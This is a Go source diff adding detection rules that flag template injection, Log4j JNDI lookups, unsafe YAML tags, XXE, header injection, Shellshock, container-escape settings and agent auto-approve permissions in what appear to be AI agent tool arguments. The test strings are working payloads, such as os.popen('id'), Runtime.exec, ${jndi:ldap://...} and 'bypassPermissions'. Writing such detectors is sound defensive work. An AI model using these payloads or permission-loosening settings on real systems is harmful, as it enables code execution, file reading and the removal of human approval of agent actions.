@@ -1,0 +1,125 @@
+package detect
+
+import "strings"
+
+// injectRules find what an interpreter behind a tool would run although the value
+// is no program: expressions of template engines, look-ups of loggers, objects of
+// serialisation formats, entities of XML, header lines. They hold in any argument
+// that isn't a document; source code is full of them. Sources: the engines' manuals;
+// CVE-2021-44228; the OWASP pages on XXE, template and header injection.
+var injectRules = []Rule{
+	{
+		Kind: "template-injection", Family: Commands, Score: High, Places: []Place{Argument}, Check: notInDocument,
+		Doc:     "A template expression that climbs to the interpreter's own objects.",
+		Pattern: `\{[{%][^{}]{0,300}(?:__(?:class|globals|subclasses|mro|base|bases|builtins|init|import)__|\.popen\(|lipsum\.|cycler\.|joiner\.|request\.application|\|attr\(|getRuntime|freemarker\.template|\.getClass\(|constructor\.constructor|process\.mainModule|_self\.env|registerUndefinedFilterCallback|\|filter\(['"]system|\|map\(['"]system|config\.items\(|self\._TemplateReference)`,
+		Match:   []string{"{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ x.__init__.__globals__['os'].popen('id').read() }}", "{{['id']|filter('system')}}"},
+		NoMatch: []string{"{{ user.name }}", "{% for a in items %}{{ a.title }}{% endfor %}", "{{ price | round(2) }}"},
+	},
+	{
+		Kind: "template-injection", Family: Commands, Score: High, Places: []Place{Argument}, Check: notInDocument,
+		Doc:     "An expression of Spring, OGNL, EL, FreeMarker or Velocity that reaches Java's runtime.",
+		Pattern: `(?:[$#*%]\{|<#assign|#set\s{0,4}\()[^\n]{0,300}(?:java\.lang\.(?:Runtime|ProcessBuilder|System)|getRuntime\(\)|ProcessBuilder|freemarker\.template\.utility\.Execute|@java\.|ognl\.|\.forName\(|ScriptEngineManager)`,
+		Match:   []string{"${T(java.lang.Runtime).getRuntime().exec('id')}", `<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`, "%{(#rt=@java.lang.Runtime@getRuntime()).exec('id')}"},
+		NoMatch: []string{"${user.id} and ${java.version}", "#{item.title}", "${HOME}/bin"},
+	},
+	{
+		Kind: "template-injection", Family: Commands, Score: High, Places: []Place{Argument}, Check: notInDocument,
+		Doc:     "An ERB or EJS tag that runs a command.",
+		Pattern: "<%= ?`[^`\\n]{1,200}`|<%=?\\s{0,8}(?:system\\s{0,2}\\(|exec\\s{0,2}\\(|IO\\.popen|File\\.(?:read|open)|Dir\\.|global\\.process|process\\.mainModule|require\\s{0,2}\\(?['\"]child_process)",
+		Match:   []string{"<%= `cat /etc/hosts` %>", "<%= system('id') %>"},
+		NoMatch: []string{"<%= user.name %>", "<% if x %>"},
+	},
+	{
+		Kind: "template-injection", Family: Commands, Score: High, Places: []Place{Argument}, Check: notInDocument,
+		Doc:     "A look-up of Log4j that loads code from elsewhere, nested look-ups that only hide it included.",
+		Pattern: `(?i)\$\{jndi\b|\$\{\$\{(?:lower|upper|env|date|sys):[^}]{0,40}\}[^\n]{0,100}:|\$\{\$\{::-[^\n]{0,100}:`,
+		Match:   []string{"${jndi:ldap://x.example/a}", "${${lower:j}ndi:rmi://x.example/a}", "${${::-j}${::-n}di:dns://x.example}"},
+		NoMatch: []string{"${java:version}", "${env:HOME}", "jndi is a Java API"},
+	},
+	{
+		Kind: "code-execution", Family: Commands, Score: High, Places: []Place{Argument}, Check: notInDocument,
+		Doc:     "A YAML tag that makes a careless loader build an object and call it.",
+		Pattern: `!!(?:python/(?:object|name|module)(?:/(?:apply|new))?:|javax\.script\.ScriptEngineManager|java\.net\.URLClassLoader|com\.sun\.rowset)|!ruby/(?:object|hash):(?:Gem|ERB|Net|OpenStruct)`,
+		Match:   []string{"!!python/object/apply:os.system ['id']", "!!javax.script.ScriptEngineManager [x]"},
+		NoMatch: []string{"!!str 12", "!!map {}", "!ruby is a tag"},
+	},
+	{
+		Kind: "external-entity", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
+		Doc:     "A declaration that makes an XML parser read a file or an address.",
+		Pattern: `(?i)<!(?:ENTITY\s{1,8}(?:%\s{1,8})?\S{1,64}|DOCTYPE\s{1,8}\S{1,64})\s{1,8}(?:SYSTEM|PUBLIC\s{1,8}["'][^"']{0,200}["'])\s{1,8}["'](?:file|https?|ftp|php|expect|jar|gopher|netdoc|data):`,
+		Match:   []string{`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hosts">]>`, `<!ENTITY % d SYSTEM "http://x.example/a.dtd">`},
+		NoMatch: []string{"<!DOCTYPE html>", `<!ENTITY copy "&#169;">`, `<!DOCTYPE note SYSTEM "note.dtd">`},
+	},
+	{
+		Kind: "external-entity", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
+		Doc:     "An inclusion that makes an XML or XSLT processor read a file.",
+		Pattern: `(?i)<xi:include\s[^>]{0,200}href\s{0,4}=\s{0,4}["'](?:file:|/etc/|https?://1)|\bdocument\(\s{0,4}['"](?:file:|/etc/)|<xsl:(?:include|import)\s[^>]{0,200}href\s{0,4}=\s{0,4}["'](?:file|https?):`,
+		Match:   []string{`<xi:include parse="text" href="file:///etc/hosts"/>`, `document('file:///etc/hosts')`},
+		NoMatch: []string{`<xi:include href="chapter1.xml"/>`, `document('a.xml')`},
+	},
+	{
+		Kind: "header-injection", Family: Commands, Score: High, Places: []Place{Argument}, Check: notInDocument,
+		Doc:     "A line break with a header behind it, in a value that is put into a header.",
+		Pattern: `(?i)[^\r\n]{1,200}(?:[\r\n]{1,2}|%0d%0a|%0a)[\t ]{0,4}(?:bcc|reply-to|set-cookie|location|content-length|transfer-encoding|content-type|host|x-forwarded-\w{2,8}|authorization|access-control-allow-\w{3,16})\s{0,4}:`,
+		Match:   []string{"a@x.example\r\nBcc: b@y.example", "https://x.example/%0d%0aSet-Cookie:a=1"},
+		NoMatch: []string{"cc: the team", "Host: x.example", "location: here"},
+	},
+	{
+		Kind: "command-injection", Family: Commands, Score: High, Places: []Place{Argument}, Check: notInDocument,
+		Doc:     "A function that maps names and runs shells, in the header that made bash run it (CVE-2014-6271).",
+		Pattern: `\(\) \{ ?:; ?\} ?;`,
+		Match:   []string{"() { :;}; /bin/id"},
+		NoMatch: []string{"f() { echo; }; f"},
+	},
+	{
+		Kind: "docker-escape", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
+		Doc:     "A pod, compose or container definition, given to be run, that shares the host's processes, devices or file system.",
+		Pattern: `(?i)(?:^|[\s{,"'])["']?(?:privileged["']?\s{0,4}:\s{0,4}true|host(?:PID|IPC)["']?\s{0,4}:\s{0,4}true|allowPrivilegeEscalation["']?\s{0,4}:\s{0,4}true|(?:pid|ipc|userns_mode)["']?\s{0,4}:\s{0,4}["']?host\b)|hostPath["']?\s{0,4}:\s{0,20}\{?\s{0,20}["']?path["']?\s{0,4}:\s{0,4}["']?(?:/|/etc|/root|/var/run/docker\.sock|/proc|/sys|/dev|/var/lib/kubelet|/home)["']?\s{0,4}(?:[\n,}]|$)|[\s"'-]/:/(?:host|mnt|rootfs|hostfs|root)\b|/var/run/docker\.sock:/|(?:SYS_ADMIN|SYS_PTRACE|SYS_MODULE)["']?\s{0,4}(?:[\n,\]]|$)`,
+		Match:   []string{"spec:\n  hostPID: true\n", "securityContext:\n  privileged: true", "hostPath:\n      path: /\n", "volumes:\n - /var/run/docker.sock:/var/run/docker.sock"},
+		NoMatch: []string{"privileged: false", "hostPath:\n      path: /data/app\n", "volumes:\n - ./src:/app", "privileged users"},
+	},
+	{
+		Kind: "kill-security", Family: Commands, Score: Medium, Places: []Place{Argument},
+		Doc:     "A setting of an editor or agent that lets tools run without asking.",
+		Pattern: `"(?:chat\.tools\.(?:global\.)?autoApprove|chat\.tools\.terminal\.autoApprove|cline\.autoApprove\w{0,40}|roo-cline\.\w{0,20}alwaysAllow\w{0,20}|cursor\.\w{0,20}yolo\w{0,20}|enableAllProjectMcpServers|security\.workspace\.trust\.enabled)"\s{0,4}:\s{0,4}(?:true|\{|false\b)`,
+		Grade:   loosensTrust,
+		Match:   []string{`{"chat.tools.autoApprove": true}`, `"enableAllProjectMcpServers": true`},
+		NoMatch: []string{`{"editor.tabSize": 2}`, `"security.workspace.trust.enabled": true`},
+	},
+	{
+		Kind: "kill-security", Family: Commands, Score: Medium, Places: []Place{Argument},
+		Doc:     "A permission that allows an agent every command, or a mode that skips its questions.",
+		Pattern: `"(?:allow|autoApprove|alwaysAllow|allowedTools|autoAllow)"\s{0,4}:\s{0,4}\[\s{0,8}"(?:\*|Bash\(\*\)|Bash\(\*:\*\)|Bash|shell\(\*\)|all)"|"defaultMode"\s{0,4}:\s{0,4}"bypassPermissions"|"approval_?policy"\s{0,4}[:=]\s{0,4}"never"`,
+		Match:   []string{`{"permissions":{"allow":["Bash(*)"]}}`, `"defaultMode": "bypassPermissions"`},
+		NoMatch: []string{`"allow":["Bash(npm test)"]`, `"defaultMode": "plan"`},
+	},
+}
+
+// loosensTrust tells the values of settings that loosen: the trust of workspaces is
+// loosened by false, everything else by true or a list of commands.
+func loosensTrust(match string, _ *View, _, _ int) Score {
+	off := strings.HasSuffix(match, "false")
+	if strings.Contains(match, "workspace.trust") != off {
+		return NoScore
+	}
+	return Medium
+}
+
+// notInDocument reports whether a text is a value and no document: what is stored or
+// sent may show anything.
+func notInDocument(_ string, v *View, _, _ int) bool {
+	r := v.role()
+	return r != roleDocument && r != roleElsewhere
+}
+
+// notStored reports whether a text is given to be worked on rather than to be kept
+// or sent.
+func notStored(_ string, v *View, _, _ int) bool {
+	r := v.role()
+	return r != roleElsewhere && (r != roleDocument || !v.named().writer && !isSender(v.Of.Tool))
+}
+
+// isSender reports whether a tool's name says that it hands texts to people.
+func isSender(tool string) bool {
+	return holdsOne(strings.ToLower(tool), []string{"send", "post", "comment", "message", "issue", "mail", "reply", "note", "commit", "review", "think", "slack", "pull_request", "gist", "doc", "page", "memory", "remember", "entit", "search", "grep"})
+}
